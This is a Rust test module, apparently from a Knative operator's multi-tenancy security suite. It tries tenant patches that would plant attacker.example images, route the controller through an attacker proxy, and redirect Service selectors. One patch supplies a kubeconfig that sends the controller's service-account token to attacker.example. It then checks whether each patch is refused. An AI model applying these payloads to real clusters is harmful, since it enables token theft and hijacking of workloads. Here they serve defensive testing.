//! What a tenant tries to bring to a spoke that is permitted to use, but not to customize: images,
//! variables and connections of Knative's own Pods, by fields that look harmless.

use knative_operator_shared::api::Component;
use knative_operator_tests::Result;
use serde_json::{Value, json};

use super::attacker::Attacker;
use super::report::Outcome;
use super::settle::{remove, settled};
use super::spokes::own;
use super::tenant::{SPOKES, Site, TEAM, TENANT};
use crate::support::resource;

/// An image of the attacker.
const IMAGE: &str = "attacker.example/image:1";

/// Content that the tenant brings.
pub struct Content {
    /// The attack.
    pub attack: &'static str,
    /// The fields of the spec.
    spec: Value,
    /// Kind and name of the object on the spoke that would have it.
    object: (&'static str, &'static str),
    /// Whether the object has it.
    is_there: fn(&Value) -> bool,
    /// What the attacker has then.
    what: &'static str,
}

/// The variable `name` of the first container of `deployment`.
fn variable<'v>(deployment: &'v Value, name: &str) -> Option<&'v str> {
    let variables = deployment["spec"]["template"]["spec"]["containers"][0]["env"].as_array();
    variables.into_iter().flatten().find(|variable| variable["name"] == name)?["value"].as_str()
}

/// An override of the controller with `fields`.
fn controller(mut fields: Value) -> Value {
    fields["name"] = json!("controller");
    json!([fields])
}

/// An override of the controller's environment.
fn controller_env(name: &str, value: &str) -> Value {
    controller(json!({"env": [{"container": "controller", "envVars": [{"name": name, "value": value}]}]}))
}

/// Everything that is tried with Knative Serving.
pub fn all() -> Vec<Content> {
    let elsewhere = json!({"apiVersion": "v1", "kind": "Config", "current-context": "a",
        "clusters": [{"name": "a", "cluster": {"server": "https://attacker.example", "insecure-skip-tls-verify": true}}],
        "contexts": [{"name": "a", "context": {"cluster": "a", "user": "a"}}],
        "users": [{"name": "a", "user": {"tokenFile": "/var/run/secrets/kubernetes.io/serviceaccount/token"}}]});
    vec![
        Content {
            attack: "H1 config.deployment: image of all Pods of users",
            spec: json!({"config": {"deployment": {"queue-sidecar-image": IMAGE}}}),
            object: ("configmap", "config-deployment"),
            is_there: |map| map["data"]["queue-sidecar-image"] == IMAGE,
            what: "each Pod of a Knative Service gets the attacker's image",
        },
        Content {
            attack: "H1 config.logging as kubeconfig of the controller",
            spec: json!({
                "config": {"logging": {"kubeconfig": elsewhere.to_string()}},
                "controller-custom-certs": {"type": "ConfigMap", "name": "config-logging"},
                "workloads": controller_env("KUBECONFIG", "/custom-certs/kubeconfig"),
            }),
            object: ("deployment", "controller"),
            is_there: |deployment| {
                let volumes = deployment["spec"]["template"]["spec"]["volumes"].as_array();
                variable(deployment, "KUBECONFIG") == Some("/custom-certs/kubeconfig")
                    && volumes.into_iter().flatten().any(|volume| volume["configMap"]["name"] == "config-logging")
            },
            what: "the controller sends its token to the attacker's server",
        },
        Content {
            attack: "H1 deployments: environment under the old name",
            spec: json!({"deployments": controller_env("HTTPS_PROXY", "http://attacker.example")}),
            object: ("deployment", "controller"),
            is_there: |deployment| variable(deployment, "HTTPS_PROXY").is_some(),
            what: "the controller connects through the attacker's proxy",
        },
        Content {
            attack: "H1 annotations of Pods: image of a sidecar",
            spec: json!({"workloads": controller(json!({"annotations": {"sidecar.istio.io/proxyImage": IMAGE}}))}),
            object: ("deployment", "controller"),
            is_there: |deployment| {
                deployment["spec"]["template"]["metadata"]["annotations"]["sidecar.istio.io/proxyImage"] == IMAGE
            },
            what: "an injected sidecar has the attacker's image",
        },
        Content {
            attack: "H1 nodeSelector and tolerations",
            spec: json!({"workloads": controller(json!({
                "nodeSelector": {"kubernetes.io/hostname": "node-1"}, "tolerations": [{"operator": "Exists"}],
            }))}),
            object: ("deployment", "controller"),
            is_there: |deployment| {
                let pod = &deployment["spec"]["template"]["spec"];
                pod["nodeSelector"]["kubernetes.io/hostname"] == "node-1"
                    || pod["tolerations"][0]["operator"] == "Exists"
            },
            what: "the controller runs on the node that the attacker chose",
        },
        Content {
            attack: "H1 services: selector",
            spec: json!({"services": [{"name": "activator-service", "selector": {"app": "attacker"}}]}),
            object: ("service", "activator-service"),
            is_there: |service| service["spec"]["selector"]["app"] == "attacker",
            what: "requests for Knative Services go to the attacker's Pods",
        },
        Content {
            attack: "H1 services: annotations",
            spec: json!({"services": [{"name": "controller",
                "annotations": {"service.beta.kubernetes.io/aws-load-balancer-internal": "false"}}]}),
            object: ("service", "controller"),
            is_there: |service| {
                let annotations = &service["metadata"]["annotations"];
                annotations["service.beta.kubernetes.io/aws-load-balancer-internal"] == "false"
            },
            what: "the attacker configures load balancers",
        },
    ]
}

impl Content {
    /// Brings it to the tenant's installation, and looks for it on the spoke.
    pub async fn bring(&self, site: &Site) -> Result<Outcome> {
        let (hub, patch) = (&site.hub, json!({"spec": self.spec}).to_string());
        let line = ["patch", "knativeserving", "main", "-n", TEAM, "--type=merge", "-p", &patch];
        let attempt = Attacker::new(hub, TENANT).kubectl(&line, "").await?;
        settled(hub, &own(site)).await?;
        let (kind, name) = self.object;
        let arguments = ["get", kind, name, "-n", Component::Serving.canonical(), "-o", "json"];
        let found: Value = serde_json::from_str(&site.spoke.kubectl(&arguments, "").await?)?;
        let outcome = Outcome::of((self.is_there)(&found), self.what, &attempt);
        if attempt.is_ok() {
            let back = json!([{"op": "replace", "path": "/spec", "value": own(site)["spec"]}]).to_string();
            hub.kubectl(&["patch", "knativeserving", "main", "-n", TEAM, "--type=json", "-p", &back], "").await?;
        }
        Ok(outcome)
    }
}

/// Wanted: the image of the Pods that Knative Eventing starts for a source.
pub async fn brings_adapter(site: &Site) -> Result<Outcome> {
    let hub = &site.hub;
    let env =
        json!([{"container": "eventing-controller", "envVars": [{"name": "APISERVER_RA_IMAGE", "value": IMAGE}]}]);
    let spec = json!({"version": site.releases.eventing, "workloads": [{"name": "eventing-controller", "env": env}]});
    let events = resource(Component::Eventing, TEAM, "events", Some(SPOKES[0]), spec);
    let attempt = Attacker::new(hub, TENANT).apply(&events).await?;
    let mut is_there = false;
    if attempt.is_ok() {
        settled(hub, &events).await?;
        let arguments = ["get", "deployment", "eventing-controller", "-n", "knative-eventing", "-o", "json"];
        let found: Value = serde_json::from_str(&site.spoke.kubectl(&arguments, "").await?)?;
        is_there = variable(&found, "APISERVER_RA_IMAGE") == Some(IMAGE);
    }
    remove(hub, &events).await?;
    Ok(Outcome::of(is_there, "Pods of a source have the attacker's image", &attempt))
}
